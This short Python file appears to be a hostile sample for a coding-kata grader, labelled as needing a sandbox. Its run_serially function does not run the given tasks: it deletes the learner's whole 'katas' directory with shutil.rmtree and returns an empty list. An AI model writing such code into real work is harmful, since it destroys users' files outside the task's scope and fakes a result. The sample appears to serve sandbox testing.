"""Removes the learner's other katas.

Kata: a1
Test: test_results_come_in_the_order_of_the_tasks
Verdict: failed
Says: FileNotFoundError
Sandbox: needed
"""

import shutil
from pathlib import Path


def run_serially(tasks):
    shutil.rmtree(Path(__file__).parents[3] / "katas")
    return []
